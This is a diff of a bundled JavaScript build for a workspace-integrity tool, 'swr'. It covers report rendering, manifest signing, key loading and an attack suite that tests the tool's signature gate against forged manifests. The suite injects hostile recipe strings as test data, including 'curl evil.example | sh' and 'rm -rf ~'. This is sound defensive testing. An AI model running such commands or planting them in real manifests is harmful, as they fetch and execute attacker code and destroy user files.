-function renderMarkdown(r, ctx = {}) {
-    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
-    const head = [];
-    const s = r.summary;
-    const what = isRepair(r) && r.repair.steps.length > 0
-        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
-        : `${s.ok}/${s.entries} entries healthy`;
-    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
-    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
-    if (signature !== 'healthy') {
-        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${markdown_cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
-    }
-    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
-        head.push(`> [!WARNING]`, `> No recipe ran: ${markdown_cell(r.repair.gate.reason)}`, '');
-    }
-    const findings = {
-        head: r.results.some(f => f.status !== 'OK')
-            ? [
-                '| Status | Entry | Path | Tier | Found | Recorded | Now |',
-                '|---|---|---|---|---|---|---|'
-            ]
-            : ['All entries verify.'],
-        rows: bySeverity(r.results).map(f => `| ${f.status} | ${markdownCode(f.id)} | ${markdownCode(f.path, { max: CELL_CHARS })} | ${f.tier} | ${markdown_cell(f.detail)} | ${markdown_cell(markdown_shown(f.recorded))} | ${markdown_cell(markdown_shown(f.found))} |`),
-        cut: (n, where) => `| … | ${n} more entries | | | see ${where} | | |`
-    };
-    const sections = [findings];
-    if (isRepair(r) && r.repair.steps.length > 0) {
-        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
-        sections.push({
-            head: [
-                '',
-                '#### Repair',
-                '',
-                '| # | Entry | Tier | Source | Result | Exit | Time |',
-                '|---|---|---|---|---|---|---|'
-            ],
-            rows: r.repair.steps.map((st, i) => {
-                const exit = st.recipe
-                    ? st.recipe.timedOut
-                        ? 'timeout'
-                        : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
-                    : '';
-                const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
-                return `| ${i + 1} | ${markdownCode(st.id)} | ${tiers.get(st.id) ?? ''} | ${markdown_cell(st.source)} | ${st.outcome}: ${markdown_cell(st.detail)} | ${exit} | ${time} |`;
-            }),
-            cut: (n, where) => `| … | ${n} more steps | | | see ${where} | | |`
-        });
-    }
-    else if (isRepair(r) && r.repair.plan.length > 0) {
-        sections.push({
-            head: ['', '#### Repair plan (not run)', ''],
-            rows: r.repair.plan
-                .flat()
-                .map(st => `- tier ${st.tier} ${markdownCode(st.id)} from ${markdown_cell(st.source)}${st.after.length ? ` after ${markdown_cell(st.after.join(', '))}` : ''}`),
-            cut: (n, where) => `- … ${n} more steps: see ${where}`
-        });
-    }
-    const tail = [
-        '',
-        `<sub>manifest ${markdown_cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`
-    ];
-    const where = ctx.reportPath ? markdownCode(ctx.reportPath) : 'the JSON report';
-    return fitSections(head, sections, tail, where, SUMMARY_BUDGET);
-}
-const bytes = (lines) => lines.reduce((n, l) => n + Buffer.byteLength(l) + 1, 0);
-/**
- * Join the parts within `budget` bytes: the head, the tail and every section's heading always; the
- * rows shared fairly (the smallest sections whole, the rest an equal share each), each cut
- * section ending with a row that counts what it left out and says where to find it.
- */
-function fitSections(head, sections, tail, where, budget) {
-    const markers = sections.map(s => s.cut(Number.MAX_SAFE_INTEGER, where));
-    let room = budget - bytes([...head, ...tail, ...sections.flatMap(s => s.head), ...markers]);
-    const order = sections.map((s, i) => ({ i, need: bytes(s.rows) })).sort((a, b) => a.need - b.need);
-    const share = new Map();
-    order.forEach(({ i, need }, k) => {
-        const fair = Math.max(0, Math.floor(room / (order.length - k)));
-        share.set(i, Math.min(need, fair));
-        room -= Math.min(need, fair);
-    });
-    const out = [...head];
-    sections.forEach((s, i) => {
-        const kept = [];
-        let left = share.get(i) ?? 0;
-        for (const row of s.rows) {
-            const n = Buffer.byteLength(row) + 1;
-            if (n > left)
-                break;
-            kept.push(row);
-            left -= n;
-        }
-        out.push(...s.head, ...kept);
-        if (kept.length < s.rows.length)
-            out.push(s.cut(s.rows.length - kept.length, where));
-    });
-    return [...out, ...tail].join('\n') + '\n';
-}
-
-;// CONCATENATED MODULE: ./src/core/report/sarif.ts
-/**
- * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
- * status, one result per damaged entry, located at the line of the manifest that declares it.
- */
-
-
-
-
-const RULE_TEXT = {
-    OK: 'The entry verifies.',
-    MISSING: 'A tracked entry is missing from the workspace.',
-    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
-    STRIPPED: 'A tracked entry lost an exec bit it should have.',
-    EMPTY: 'A tracked directory survived with no files in it.',
-    BROKENLNK: 'A tracked symlink points at something that does not exist.',
-    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
-    SKIPPED: 'The entry was not repaired because a dependency failed.',
-    SMOKEFAIL: "The entry's files verify but its smoke command fails."
-};
-/** What to do about each status: the rule's help, shown beside every result in code scanning. */
-const RULE_HELP = {
-    OK: 'Nothing to do.',
-    MISSING: 'Restore the entry: `swr doctor` (or the Action with `command: doctor`) runs its signed restore sources; `swr why` names the cause. If the entry is gone on purpose, take it out of the manifest and sign it again.',
-    CORRUPT: 'The bytes, size, file list or link target changed since the manifest was signed. Restore the entry with `swr doctor`; if the change is intended, record it again with `swr add` and re-sign.',
-    STRIPPED: 'Only the exec bit was lost (a tar, artifact or cache round trip that drops modes). `swr doctor` puts it back; so does `chmod +x` on the path.',
-    EMPTY: 'The directory exists but its files are gone (a cleanup or a partial restore). Restore it with `swr doctor`.',
-    BROKENLNK: "The link's target is missing: restore the target first (`swr doctor` orders repairs by dependency), or record the new target with `swr add`.",
-    TYPE: 'A file became a directory or a link, or the other way round. Remove what is there and restore the entry with `swr doctor`.',
-    SKIPPED: 'The entry was not repaired because an entry it needs failed; fix that one first (see the repair table in the job summary).',
-    SMOKEFAIL: "The files verify but the entry's smoke command fails: the tool they make up does not run here. Check the smoke command's output in the log."
-};
-function toSarif(report, ctx) {
-    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
-        id: `swr/${s}`,
-        name: s,
-        shortDescription: { text: RULE_TEXT[s] },
-        fullDescription: { text: `${RULE_TEXT[s]} ${RULE_HELP[s]}` },
-        help: { text: RULE_HELP[s], markdown: RULE_HELP[s] },
-        defaultConfiguration: { level: LEVEL[s] }
-    }));
-    const damaged = bySeverity(report.results);
-    // Code scanning shows only the most severe results: keep those, count the rest.
-    const kept = damaged.slice(0, SARIF_RESULTS);
-    const adviceById = new Map(report.diagnosis.advice.map(a => [a.id, a]));
-    const results = kept.map(f => {
-        const advice = adviceById.get(f.id);
-        return {
-            ruleId: `swr/${f.status}`,
-            ruleIndex: rules.findIndex(r => r.name === f.status),
-            level: LEVEL[f.status],
-            message: {
-                text: `${f.status} ${escape_escapeText(f.id)} (${escape_escapeText(f.path)}): ${escape_escapeText(f.detail)}${advice ? `. Fix: ${escape_escapeText(advice.fix)}` : ''}`
-            },
-            locations: [
-                {
-                    physicalLocation: {
-                        artifactLocation: { uri: ctx.manifestUri },
-                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
-                    },
-                    logicalLocations: [
-                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
-                    ]
-                }
-            ],
-            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
-            properties: {
-                tier: f.tier,
-                kind: f.kind,
-                path: f.path,
-                reason: f.reason,
-                recorded: f.recorded,
-                found: f.found
-            }
-        };
-    });
-    return {
-        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
-        version: '2.1.0',
-        runs: [
-            {
-                tool: {
-                    driver: {
-                        name: 'swr',
-                        version: report.tool.version,
-                        rules
-                    }
-                },
-                results,
-                properties: {
-                    verdict: report.verdict,
-                    wipeSignature: report.diagnosis.signature,
-                    manifestDigest: report.manifest.digest,
-                    ...(damaged.length > kept.length
-                        ? {
-                            resultsOmitted: damaged.length - kept.length,
-                            fullReport: ctx.reportPath ?? 'the JSON report'
-                        }
-                        : {})
-                }
-            }
-        ]
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/report/survival.ts
-
-
-const MARK = { kept: '✓', partial: '◐', lost: '✗' };
-/** Runs shown in the chart: enough to see a trend, few enough for labels to stay legible. */
-const CHART_RUNS = 30;
-function pct(x) {
-    return `${(x * 100).toFixed(1)}%`;
-}
-function interval(r) {
-    return `[${(r.low * 100).toFixed(1)}, ${(r.high * 100).toFixed(1)}]`;
-}
-function trend(r) {
-    return r.trend.map(m => MARK[m]).join('');
-}
-function textTable(title, rs) {
-    if (rs.length === 0)
-        return [];
-    const w = Math.max(title.length - 2, ...rs.map(r => escapeText(r.key).length));
-    const head = `${title.padEnd(w + 2)}  ${'rate'.padStart(6)}  ${'95% CI'.padEnd(14)}  ${'n'.padStart(5)}  trend (newest first)`;
-    return [
-        head,
-        ...rs.map(r => `  ${escapeText(r.key).padEnd(w)}  ${pct(r.rate).padStart(6)}  ${interval(r).padEnd(14)}  ${String(r.n).padStart(5)}  ${trend(r)}`),
-        ''
-    ];
-}
-function span(s) {
-    const parts = [`${s.records} record${s.records === 1 ? '' : 's'}`];
-    parts.push(`${s.canary_runs} canary read${s.canary_runs === 1 ? '' : 's'}`);
-    parts.push(`${s.check_runs} recorded check${s.check_runs === 1 ? '' : 's'}`);
-    const when = s.first && s.last ? `, ${s.first.slice(0, 16)}Z .. ${s.last.slice(0, 16)}Z` : '';
-    return `${parts[0]} (${parts.slice(1).join(', ')})${when}`;
-}
-function renderStatsText(s) {
-    if (s.records === 0)
-        return 'no history yet: "swr canary read" records every read; "swr check --record" records checks\n';
-    return [
-        `survival from ${span(s)}`,
-        '',
-        ...textTable('canary classes', s.classes),
-        ...textTable('canary locations', s.locations),
-        ...textTable('manifest entries', s.entries)
-    ].join('\n');
-}
-function mdTable(title, rs) {
-    if (rs.length === 0)
-        return [];
-    return [
-        `| ${title} | survival | 95% CI | n | trend (newest first) |`,
-        '| --- | ---: | :---: | ---: | --- |',
-        ...rs
-            .slice(0, SURVIVAL_TABLE_ROWS)
-            .map(r => `| ${markdownCode(r.key, { max: 256 })} | ${pct(r.rate)} | ${interval(r)} | ${r.n} | ${trend(r)} |`),
-        // Rows beyond the bound are counted; `swr stats --json` and the stats output have them.
-        ...(rs.length > SURVIVAL_TABLE_ROWS
-            ? [`| … ${rs.length - SURVIVAL_TABLE_ROWS} more (see \`swr stats --json\`) | | | | |`]
-            : []),
-        ''
-    ];
-}
-function axisLabel(p) {
-    // Month-day and time: short enough for 30 labels; quotes are the only character to avoid.
-    return p.time.slice(5, 16).replace('T', ' ').replace(/"/g, '');
-}
-/** A Mermaid xychart-beta of survival per run (canary runs when there are any, else checks). */
-function survivalChart(s) {
-    const kind = s.canary_runs > 0 ? 'canary' : 'check';
-    const runs = s.runs.filter(r => r.kind === kind).slice(-CHART_RUNS);
-    if (runs.length === 0)
-        return undefined;
-    const title = kind === 'canary'
-        ? 'Canary probes intact per run (%)'
-        : 'Entries healthy per recorded check (%)';
-    return [
-        '```mermaid',
-        'xychart-beta',
-        `    title "${title}"`,
-        `    x-axis [${runs.map(r => `"${axisLabel(r)}"`).join(', ')}]`,
-        '    y-axis "survival %" 0 --> 100',
-        `    line [${runs.map(r => (r.survival * 100).toFixed(1)).join(', ')}]`,
-        '```'
-    ].join('\n');
-}
-function renderStatsMarkdown(s) {
-    if (s.records === 0)
-        return '_No survival history recorded yet._\n';
-    const chart = survivalChart(s);
-    return [
-        `**Survival** from ${span(s)}`,
-        '',
-        ...(chart ? [chart, ''] : []),
-        ...mdTable('canary class', s.classes),
-        ...mdTable('canary location', s.locations),
-        ...mdTable('manifest entry', s.entries)
-    ].join('\n');
-}
-
-;// CONCATENATED MODULE: ./src/core/restore/cache/scratch-copy.ts
-/**
- * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
- * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
- * files. The caller parses and checks it there, and only then takes what it needs.
- */
-
-
-
-
-
-
-function onlyPlain(dir) {
-    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
-        const abs = external_node_path_default().join(dir, ent.name);
-        if (ent.isDirectory())
-            onlyPlain(abs);
-        else if (!ent.isFile())
-            throw new Rejected(`not a regular file: ${ent.name}`);
-    }
-}
-/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
-async function scratchCopy(archive, scratchBase, bounds) {
-    const dir = makeScratch(scratchBase, 'swr-state');
-    const root = external_node_path_default().join(dir, 'w');
-    const dispose = () => removeScratch(dir);
-    try {
-        const x = new EntryExtractor(archive.prefix, root, {
-            kind: 'bounded',
-            ...bounds,
-            single: false
-        });
-        try {
-            await unpack(await archive.open(), archive.compression, x);
-        }
-        finally {
-            x.abort();
-        }
-        x.finish();
-        if (!external_node_fs_default().lstatSync(root).isDirectory())
-            throw new Rejected('the archive does not hold a directory');
-        onlyPlain(root);
-        return { root, dispose };
-    }
-    catch (err) {
-        dispose();
-        if (err instanceof Rejected)
-            throw err;
-        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/sign.ts
-/**
- * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
- * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
- */
-
-
-
-
-function hasSigningKey(keys) {
-    return keys.hmacKey !== undefined || keys.identity !== undefined;
-}
-/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
-async function sign_signDocument(doc, keys, 
-/** The highest version already accepted on this machine: signing goes above it. */
-floor = 0) {
-    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
-    const input = signingInput(body);
-    const signatures = [];
-    if (keys.hmacKey)
-        signatures.push(signHmac(keys.hmacKey, input));
-    if (keys.identity)
-        signatures.push(await signMldsa(keys.identity, input));
-    return { doc: { ...doc, body, signatures }, digest: manifestDigest(body) };
-}
-/**
- * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
- * without changing the body or its version, so distinct signers can meet a threshold.
- */
-async function cosignDocument(doc, identity) {
-    const sig = await signMldsa(identity, signingInput(doc.body));
-    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
-    return { ...doc, signatures: [...others, sig] };
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
-/**
- * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
- * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
- * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
- * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
- *
- * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
- * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
- * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
- * else allowed is a forgery; any exception other than a clean refusal is a crash.
- */
-
-
-
-
-
-
-
-
-
-const ATTACK_CLASSES = (/* unused pure expression or super */ null && ([
-    'byte-flip',
-    'field-edit',
-    'duplicate-key',
-    'reorder-entries',
-    'replay-old-version',
-    'expired-copy',
-    'wrong-scope',
-    'resign-untrusted',
-    'fingerprint-substitution',
-    'strip-signatures',
-    'foreign-payload-type',
-    'oversized-field',
-    'deep-nesting',
-    'huge-escrow'
-]));
-const ALL_SUITE_DEFENSES = Object.freeze({
-    ...gate_ALL_DEFENSES,
-    strictParse: true
-});
-/** Which class shows that each defence is load-bearing. */
-const DEFENCE_PROBES = {
-    signatures: 'field-edit',
-    trust: 'resign-untrusted',
-    fingerprintFromKey: 'fingerprint-substitution',
-    payloadType: 'foreign-payload-type',
-    expiry: 'expired-copy',
-    scope: 'wrong-scope',
-    rollback: 'replay-old-version',
-    strictParse: 'duplicate-key'
-};
-const attack_suite_REPO = 'acme/app';
-const REF = 'refs/heads/main';
-const NOW = new Date('2026-06-01T00:00:00Z');
-function baseBody(version, extra = {}) {
-    const sha = (c) => c.repeat(64);
-    return {
-        schema: 3,
-        version,
-        workspace: '..',
-        created: '2026-01-01T00:00:00Z',
-        expires: '2027-01-01T00:00:00Z',
-        scope: { repository: attack_suite_REPO, ref: 'refs/heads/*' },
-        entries: [
-            {
-                id: 'shim',
-                kind: 'file',
-                path: '.shim/npx',
-                tier: 0,
-                needs: [],
-                restore: 'install-shim',
-                expect: { size: 40, sha256: sha('a'), mode: '0755' }
-            },
-            {
-                id: 'src',
-                kind: 'tree',
-                path: 'src',
-                tier: 2,
-                needs: ['shim'],
-                ignore: [],
-                restore: 'git checkout -- src',
-                expect: {
-                    sentinels: ['main.c'],
-                    min_files: 3,
-                    max_files: 3,
-                    files: 3,
-                    meta_digest: sha('b'),
-                    content_digest: sha('c')
-                }
-            },
-            {
-                id: 'model',
-                kind: 'blob',
-                path: 'models/m.gguf',
-                tier: 3,
-                needs: [],
-                restore: 'fetch-model',
-                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
-            }
-        ],
-        ...extra
-    };
-}
-/** Sign `body` as-is (signDocument raises the version, so start one lower). */
-async function signed(body, keys) {
-    const lowered = { ...body, version: body.version - 1 };
-    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
-}
-async function buildScenario(seed) {
-    const trustedId = await identityFromSeed(seed(1));
-    const attacker = await identityFromSeed(seed(2));
-    const hmacKey = Buffer.from(seed(3));
-    const keys = { hmacKey, identity: trustedId };
-    const honest = await signed(baseBody(5), keys);
-    const evilBody = baseBody(6, {});
-    evilBody.entries[0].restore = 'curl evil.example | sh';
-    const foreign = await signMldsaRaw(trustedId, evilBody);
-    const untrusted = await signed(evilBody, { identity: attacker });
-    const policy = {
-        require: 'any',
-        hmacKey,
-        trusted: new Set([trustedId.fingerprint]),
-        minVersion: 5,
-        run: { repository: attack_suite_REPO, ref: REF, manifestPath: '.swr/manifest.json' },
-        now: NOW
-    };
-    return {
-        honest,
-        honestText: serializeDocument(honest),
-        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
-        policy,
-        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
-        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
-        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
-        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
-        untrustedText: serializeDocument(untrusted),
-        substitutedText: serializeDocument({
-            ...untrusted,
-            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
-        })
-    };
-}
-/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
-async function signMldsaRaw(id, body) {
-    return signMldsa(id, canonicalBytes(body));
-}
-/** The attacker's document text for mutation `m`. */
-async function mutate(s, m) {
-    const text = s.honestText;
-    switch (m.cls) {
-        case 'byte-flip': {
-            const b = Buffer.from(text, 'utf8');
-            const i = m.a % b.length;
-            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
-            return b.toString('utf8');
-        }
-        case 'field-edit':
-            return fieldEdit(s, m);
-        case 'duplicate-key': {
-            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
-            const at = nthIndex(text, '"restore": ', m.a % 3);
-            return at < 0
-                ? text
-                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
-        }
-        case 'reorder-entries': {
-            const doc = structuredClone(s.honest);
-            doc.body.entries.reverse();
-            if (m.a % 2 === 1)
-                doc.body.entries.push(doc.body.entries.shift());
-            return serializeDocument(doc);
-        }
-        case 'replay-old-version':
-            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
-        case 'expired-copy':
-            return s.expiredText;
-        case 'wrong-scope':
-            return s.otherScopeText;
-        case 'resign-untrusted':
-            return s.untrustedText;
-        case 'fingerprint-substitution':
-            return s.substitutedText;
-        case 'strip-signatures': {
-            const doc = structuredClone(s.honest);
-            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
-            if (m.a % 2 === 1)
-                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
-            return serializeDocument(doc);
-        }
-        case 'foreign-payload-type':
-            return s.foreignText;
-        case 'oversized-field': {
-            const doc = structuredClone(s.honest);
-            doc.body.entries[0] = {
-                ...doc.body.entries[0],
-                restore: 'x'.repeat(65537 + (m.a % 1000))
-            };
-            return serializeDocument(doc);
-        }
-        case 'deep-nesting': {
-            const depth = 33 + (m.a % 200);
-            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
-        }
-        case 'huge-escrow': {
-            const doc = structuredClone(s.honest);
-            const e = doc.body.entries[0];
-            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
-            return JSON.stringify(doc);
-        }
-    }
-}
-function nthIndex(text, needle, n) {
-    let at = -1;
-    for (let i = 0; i <= n; i++) {
-        at = text.indexOf(needle, at + 1);
-        if (at < 0)
-            return -1;
-    }
-    return at;
-}
-function fieldEdit(s, m) {
-    const doc = structuredClone(s.honest);
-    const e = doc.body.entries[m.a % doc.body.entries.length];
-    const expect = e.expect;
-    switch (m.b % 8) {
-        case 0:
-            e.restore = `${String(e.restore)}; curl evil.example | sh`;
-            break;
-        case 1:
-            e.path = `${String(e.path)}x`;
-            break;
-        case 2:
-            e.tier = ((Number(e.tier) + 1) % 5);
-            break;
-        case 3:
-            e.needs = [];
-            break;
-        case 4:
-            expect.size = Number(expect.size ?? 0) + 1;
-            break;
-        case 5:
-            doc.body.version += 1;
-            break;
-        case 6:
-            doc.body.expires = '2099-01-01T00:00:00Z';
-            break;
-        default:
-            e.smoke = 'rm -rf ~';
-    }
-    return serializeDocument(doc);
-}
-/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
-function readerView(text, keep) {
-    const root = parseTree(text);
-    const build = (n) => {
-        if (!n)
-            return undefined;
-        if (n.type === 'object') {
-            const out = new Map();
-            for (const p of n.children ?? []) {
-                const key = String(p.children?.[0]?.value);
-                if (keep === 'first' && out.has(key))
-                    continue;
-                out.set(key, build(p.children?.[1]));
-            }
-            return Object.fromEntries(out);
-        }
-        if (n.type === 'array')
-            return (n.children ?? []).map(build);
-        return n.value;
-    };
-    return build(root);
-}
-function sameAsHonest(s, body) {
-    try {
-        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
-    }
-    catch {
-        return false;
-    }
-}
-/** Load `text` as a run would and ask the gate. */
-async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
-    try {
-        let doc;
-        if (defenses.strictParse)
-            doc = parseManifestText(text, 'attack.json').doc;
-        else {
-            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
-            const lax = JSON.parse(text);
-            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
-        }
-        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
-        if (!decision.allowed)
-            return 'refused';
-        const honest = sameAsHonest(s, doc.body) &&
-            sameAsHonest(s, readerView(text, 'first')?.body) &&
-            sameAsHonest(s, readerView(text, 'last')?.body);
-        return honest ? 'accepted-honest' : 'forgery';
-    }
-    catch (err) {
-        if (err instanceof SwrError || err instanceof SyntaxError)
-            return 'refused';
-        return 'crash';
-    }
-}
-function emptyCounts() {
-    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
-}
-function attack_suite_tally(c, cls, o) {
-    c.attempts++;
-    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
-    k.attempts++;
-    if (o === 'refused')
-        c.refused++;
-    else if (o === 'accepted-honest')
-        c.acceptedHonest++;
-    else if (o === 'forgery') {
-        c.forgeries++;
-        k.forgeries++;
-    }
-    else {
-        c.crashes++;
-        k.crashes++;
-    }
-}
-/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
-async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
-    const counts = emptyCounts();
-    for (let i = 0; i < count; i++) {
-        const cls = classes[next() % classes.length];
-        const m = { cls, a: next(), b: next() };
-        attack_suite_tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
-    }
-    return counts;
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
-/**
- * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
- * may change a signed manifest only when its signature verifies here, or when the user approved
- * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
- * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
- * accepting a signed version of it: then the missing signatures are treated as stripped.
- */
-
-
-const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
-async function authorizeEdit(m, policy, approveDigest) {
-    if (approveDigest !== undefined) {
-        if (approveDigest.toLowerCase() !== m.digest) {
-            throw new SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, EXIT.UNREPAIRABLE);
-        }
-        return { resign: true, note: `approved digest ${m.digest}` };
-    }
-    if (m.doc.signatures.length === 0) {
-        if (policy.remembered &&
-            policy.remembered.signed !== false &&
-            policy.remembered.digest !== m.digest) {
-            throw new SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
-        }
-        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
-    }
-    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
-    const input = gateInput(m);
-    const decision = await decide(input, { ...policy, require: 'any', waiveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
-    if (!decision.allowed) {
-        throw new SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
-    }
-    return { resign: true };
 }
 
 ;// CONCATENATED MODULE: ./src/core/sign/keys.ts
@@ -14164,7 +10534,7 @@ const HMAC_KEY_FILE = 'hmac.key';
 const IDENTITY_FILE = 'mldsa87.seed';
 /** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
 const SYNC_KEY_FILE = 'sync.seed';
-function keys_keyPath(stateDir, name) {
+function keyPath(stateDir, name) {
     return external_node_path_default().join(stateDir, 'keys', name);
 }
 /** The contents of a private key file, or undefined when it does not exist. */
@@ -14187,32 +10557,32 @@ function readPrivate(file) {
     return external_node_fs_default().readFileSync(file, 'utf8');
 }
 /** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
-function loadHmacKey(stateDir, envValue) {
+function keys_loadHmacKey(stateDir, envValue) {
     if (envValue !== undefined && envValue !== '') {
         const key = parseHmacKey(envValue);
         if (!key)
             throw new errors_SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', errors_EXIT.BAD_MANIFEST);
         return { key, source: 'env' };
     }
-    const text = readPrivate(keys_keyPath(stateDir, HMAC_KEY_FILE));
+    const text = readPrivate(keyPath(stateDir, HMAC_KEY_FILE));
     if (text === undefined)
         return undefined;
     const key = parseHmacKey(text);
     if (!key)
-        throw new errors_SwrError(`${keys_keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
+        throw new errors_SwrError(`${keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
     return { key, source: 'file' };
 }
-function loadIdentitySeed(stateDir) {
-    const text = readPrivate(keys_keyPath(stateDir, IDENTITY_FILE));
+function keys_loadIdentitySeed(stateDir) {
+    const text = readPrivate(keyPath(stateDir, IDENTITY_FILE));
     if (text === undefined)
         return undefined;
     if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keys_keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
+        throw new errors_SwrError(`${keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, errors_EXIT.UNREPAIRABLE);
     return Buffer.from(text.trim(), 'hex');
 }
 /** Fresh key material: 32 random bytes, written as 64 hex digits. */
 function newKey() {
-    return randomBytes(32);
+    return (0,external_node_crypto_.randomBytes)(32);
 }
 function secretKeyFile(name, bytes) {
     return { name, text: bytes.toString('hex') + '\n' };
@@ -14225,12 +10595,12 @@ function secretKeyFile(name, bytes) {
  * and a rerun starts from where this one did. An existing secret key file is never replaced.
  */
 function createKeyFiles(stateDir, files) {
-    ensurePrivateDir(stateDir, 'keys');
+    state_dir_ensurePrivateDir(stateDir, 'keys');
     const staged = [];
     const placed = [];
     try {
         for (const f of files)
-            staged.push(stageFile(keys_keyPath(stateDir, f.name), f.text, {
+            staged.push(stageFile(keyPath(stateDir, f.name), f.text, {
                 mode: f.public ? 0o644 : 0o600,
                 exclusive: !f.public
             }));
@@ -14240,7 +10610,7 @@ function createKeyFiles(stateDir, files) {
             }
             catch (err) {
                 // Another keygen got there between our check and now: its key stays, ours goes.
-                throw errnoCode(err) === 'EEXIST' ? alreadyExists(s.file) : err;
+                throw errors_errnoCode(err) === 'EEXIST' ? alreadyExists(s.file) : err;
             }
             placed.push(s.file);
         }
@@ -14249,177 +10619,26 @@ function createKeyFiles(stateDir, files) {
         for (const s of staged)
             s.discard();
         for (const p of placed)
